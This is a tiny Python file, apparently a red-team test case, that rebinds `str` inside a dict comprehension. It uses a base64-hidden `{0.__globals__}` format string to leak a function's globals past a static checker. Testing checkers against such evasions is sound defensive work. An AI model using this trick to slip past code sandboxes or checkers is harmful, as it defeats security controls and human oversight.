# family: red team, round 59a (rebinding str via dict_comp so the checker folds str(...) wrongly)
import base64


def probe():
    return 1


print({1: str("x").format(probe) for str in [lambda s: base64.b64decode("ezAuX19nbG9iYWxzX199").decode()]})
